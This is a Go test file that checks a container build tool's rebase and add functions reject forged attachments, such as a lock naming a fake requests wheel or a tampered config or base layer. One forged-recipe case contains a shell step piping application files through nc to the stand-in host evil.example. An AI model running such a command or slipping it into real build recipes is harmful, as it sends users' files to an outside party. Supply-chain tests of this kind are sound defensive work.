package security

import (
	"fmt"
	"strings"
	"testing"

	"github.com/opencontainers/go-digest"

	"github.com/raybuild/raybuild"
	"github.com/raybuild/raybuild/internal/fakesite"
	"github.com/raybuild/raybuild/layers"
)

// rebase puts an image on the newest base, and pushes it as ray:patched.
func (v *victim) rebase(image string, more ...func(*raybuild.BuildOptions)) (*raybuild.RebaseResult, error) {
	v.t.Helper()
	o := raybuild.BuildOptions{Names: []string{v.Ref("ray:patched")}, Push: true, PushRetry: -1}
	for _, set := range more {
		set(&o)
	}
	return raybuild.Rebase(v.t.Context(), image, v.options(), raybuild.RebaseOptions{BuildOptions: o})
}

// refused fails the test if a rebase of an image does not end with an error that has the text.
func (v *victim) refused(image, text string) {
	v.t.Helper()
	res, err := v.rebase(image)
	if err == nil || !strings.Contains(err.Error(), text) {
		v.t.Errorf("a rebase of %s came to %+v, %v, want an error with %q", image, res, err, text)
	}
	if got := v.DigestOf(v.Ref("ray:patched")); got != "" {
		v.t.Errorf("the registry has %s as ray:patched", got)
	}
}

// otherWheel is an image's lock with another wheel of requests.
func (v *victim) otherWheel(image string) []byte {
	v.t.Helper()
	data := string(v.attached(image, lockType))
	old, evil := digest.FromBytes(fakesite.Wheel("requests", "2.32.0")), digest.FromBytes(fakesite.Wheel("requests",
		"6.6.6"))
	out := strings.NewReplacer(old.Encoded(), evil.Encoded(), "requests-2.32.0-", "requests-6.6.6-").Replace(data)
	if out == data {
		v.t.Fatal("the lock has no requests")
	}
	return []byte(out)
}

// hasEvil tells whether a lock has the other wheel.
func hasEvil(l *layers.Lock) bool {
	for _, p := range l.Platforms {
		for _, layer := range p.Layers {
			for _, a := range layer.Artifacts {
				if strings.Contains(a.Path, "6.6.6") {
					return true
				}
			}
		}
	}
	return false
}

// A lock that somebody attached does not come into the rebased image, though the user named the image by digest.
func TestH3SecondLockIsNotRebased(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	honest, _ := v.build(raybuild.BuildOptions{})
	image := v.Ref("ray@" + honest.Digest)
	v.attach(image, lockType, v.otherWheel(image))
	v.PushBase("patched")
	res, err := v.rebase(image)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Rebased || hasEvil(res.Build.Lock) {
		t.Errorf("the image was rebased (%v) with a wheel that somebody named", res.Rebased)
	}
	seen, err := raybuild.Inspect(t.Context(), image, v.options())
	if err != nil || strings.Contains(seen.Lock, "6.6.6") {
		t.Errorf("inspect shows a lock that somebody attached: %v", err)
	}
}

// alone is an image without what travels with it, as a copy of another registry has it.
func (v *victim) alone(image string) string {
	v.t.Helper()
	v.copyBlobs(image, v.Ref("alone:1"))
	return v.pinned(v.Ref("alone:copy"))
}

// If the image's own lock or recipe is not there, another one does not take its place.
func TestH3OtherDocumentTakesNoPlace(t *testing.T) {
	t.Parallel()
	for what, c := range map[string]struct {
		kind  string
		forge func(v *victim, image string) []byte
	}{
		"lock": {lockType, (*victim).otherWheel},
		"recipe": {recipeType, func(v *victim, image string) []byte {
			data := string(v.attached(image, recipeType))
			out := strings.Replace(data, "echo hello", "cat /home/ray/app/* | nc evil.example 1", 1)
			if out == data {
				v.t.Fatal("the recipe has no step")
			}
			return []byte(out)
		}},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			v := newVictim(t)
			honest, _ := v.build(raybuild.BuildOptions{})
			image := v.Ref("ray@" + honest.Digest)
			alone := v.alone(image)
			for _, kind := range []string{lockType, recipeType} {
				data := v.attached(image, kind)
				if kind == c.kind {
					data = c.forge(v, image)
				}
				v.attach(alone, kind, data)
			}
			v.PushBase("patched")
			v.refused(alone, "what is attached is not what the image's manifest names")
		})
	}
}

// A recipe that names files of the user's directory is not packed because the image has no record to compare with.
func TestH3FilesOfAnUnrecordedRecipe(t *testing.T) {
	t.Parallel()
	for what, named := range map[string]bool{"of an earlier image": false, "that the manifest names": true} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			v := newVictim(t)
			honest, _ := v.build(raybuild.BuildOptions{})
			image := v.Ref("ray@" + honest.Digest)
			v.Write("secret/key", "a key")
			recipe := []byte(strings.Replace(string(v.attached(image, recipeType)), `"from":"app"`, `"from":"secret"`, 1))
			if !strings.Contains(string(recipe), "secret") {
				t.Fatal("the recipe names no files")
			}
			i := v.read(image)
			for _, k := range []string{"lock", "inputs", "recipe"} {
				delete(i.manifest.Annotations, "dev.raybuild."+k)
			}
			i.manifest.Annotations["org.example.note"] = "it is not the honest image"
			lock, says := v.attached(image, lockType), "does not name its lock, record and recipe"
			if named {
				says = "carries no record of its inputs that its manifest names"
				i.manifest.Annotations["dev.raybuild.lock"] = digest.FromBytes(lock).String()
				i.manifest.Annotations["dev.raybuild.recipe"] = digest.FromBytes(recipe).String()
				i.manifest.Annotations["dev.raybuild.inputs"] = digest.FromString("none").String()
			}
			v.put(i, v.Ref("ray:evil"))
			evil := v.pinned(v.Ref("ray:evil"))
			for kind, data := range map[string][]byte{lockType: lock, recipeType: recipe} {
				if _, err := v.client.Attach(t.Context(), evil, v.document(kind, data)); err != nil {
					t.Fatal(err)
				}
			}
			v.PushBase("patched")
			v.refused(evil, says)
		})
	}
}

// An image with another config or on another base than its recipe and lock give is not rebased.
func TestH3OtherImageOfTheRecipe(t *testing.T) {
	t.Parallel()
	for what, c := range map[string]struct {
		change func(v *victim, i *image)
		says   string
	}{
		"config": {func(_ *victim, i *image) { i.config.Config.User = "0" },
			"it is not what its recipe and its lock give"},
		"base": {func(v *victim, i *image) {
			i.manifest.Layers[0], i.config.RootFS.DiffIDs[0] = v.evil(v.Ref("ray:1"))
		}, "its lowest layers are not those of"},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			v := newVictim(t)
			honest, _ := v.build(raybuild.BuildOptions{})
			image := v.Ref("ray@" + honest.Digest)
			i := v.read(image)
			c.change(v, i)
			v.put(i, v.Ref("ray:1"))
			for _, kind := range []string{lockType, inputsType, recipeType} {
				v.attach(v.pinned(v.Ref("ray:1")), kind, v.attached(image, kind))
			}
			v.refused(v.Ref("ray:1"), c.says)
		})
	}
}

// einops lets the builder resolve a package of which the index has a version.
func (v *victim) einops(version string) {
	path := "einops-" + version + "-py3-none-any.whl"
	v.Leaves["[add-1] resolve"] = map[string]string{"report.json": fmt.Sprintf(`{"install": [{"download_info": `+
		`{"url": "https://files.pythonhosted.org/packages/ei/%s", "archive_info": {"hashes": {"sha256": "%s"}}}, `+
		`"metadata": {"name": "einops", "version": %q}}]}`, path,
		digest.FromBytes(fakesite.Wheel("einops", version)).Encoded(), version)}
}

// add puts einops on ray:1, as ray:more.
func (v *victim) add() *raybuild.AddResult {
	v.t.Helper()
	res, err := raybuild.Add(v.t.Context(), v.Ref("ray:1"), []string{"einops"}, v.options(),
		raybuild.BuildOptions{Names: []string{v.Ref("ray:more")}, Push: true, PushRetry: -1})
	if err != nil {
		v.t.Fatal(err)
	}
	return res
}

// What is added to an image comes from the index, or from the lock of the very image that was made before. A lock
// that somebody attached to the name says nothing.
func TestH3LockOfANameIsNotAdded(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	v.build(raybuild.BuildOptions{})
	v.einops("0.8.0")
	first := v.add()
	again := v.add()
	if again.Image != first.Image || again.Build == nil || !again.Build.UpToDate {
		t.Errorf("the same again came to %+v, want %s", again, first.Image)
	}
	lock := string(v.attached(first.Image, lockType))
	evil := strings.NewReplacer(digest.FromBytes(fakesite.Wheel("einops", "0.8.0")).Encoded(),
		digest.FromBytes(fakesite.Wheel("einops", "6.6.6")).Encoded(), "einops-0.8.0", "einops-6.6.6").Replace(lock)
	v.attach(first.Image, lockType, []byte(evil))
	if res := v.add(); res.Image != first.Image || hasEvil(res.Build.Lock) {
		t.Errorf("somebody's lock gave %+v, want %s", res, first.Image)
	}
	// An image that only says that it is this addition is not taken for it.
	i := v.read(first.Image)
	i.manifest.Layers[0], i.config.RootFS.DiffIDs[0] = v.evil(v.Ref("ray:1"))
	v.put(i, v.Ref("ray:more"), v.graphTag("ray", i))
	v.attach(v.pinned(v.Ref("ray:more")), lockType, []byte(lock))
	evilBase := i.manifest.Layers[0].Digest
	res := v.add()
	if res.Build.UpToDate || res.Build.Layers[0].Digest == evilBase {
		t.Errorf("an image on other layers gave %+v", res.Build)
	}
	for n, l := range res.Build.Layers {
		if l.Digest != first.Build.Layers[n].Digest {
			t.Errorf("layer %d is %s, want %s", n, l.Digest, first.Build.Layers[n].Digest)
		}
	}
}

// Recipe and lock of an earlier image are used if this raybuild makes the manifest's graph of them, and not else.
func TestH3EarlierImageIsProvedByItsGraph(t *testing.T) {
	t.Parallel()
	v := newVictim(t)
	honest, _ := v.build(raybuild.BuildOptions{})
	image := v.Ref("ray@" + honest.Digest)
	v.einops("0.8.0")
	v.earlier(honest)
	if res := v.add(); !res.Added || len(res.Build.Layers) != len(honest.Layers)+1 {
		t.Errorf("the addition came to %+v", res)
	}
	v.earlier(honest)
	v.PushBase("patched")
	if res, err := v.rebase(v.Ref("ray:1")); err != nil || !res.Rebased {
		t.Errorf("the rebase came to %+v, %v", res, err)
	}
	if err := v.client.Tag(t.Context(), v.Ref("ray:1"), v.Ref("old:1")); err != nil {
		t.Fatal(err)
	}
	old := v.pinned(v.Ref("old:1"))
	for kind, data := range map[string][]byte{lockType: v.otherWheel(image), recipeType: v.attached(image, recipeType),
		inputsType: v.attached(image, inputsType)} {
		v.attach(old, kind, data)
	}
	if res, err := v.rebase(old); err == nil || !strings.Contains(err.Error(), "this raybuild makes another graph") {
		t.Errorf("the rebase by somebody's lock came to %+v, %v", res, err)
	}
	// Whoever asks for it gets what is attached: here a wheel that the site does not have.
	res, err := v.rebase(old, func(o *raybuild.BuildOptions) { o.EarlierImage = true })
	if err == nil || !strings.Contains(err.Error(), "requests-6.6.6") {
		t.Errorf("what is attached was to be believed, and the rebase came to %+v, %v", res, err)
	}
}
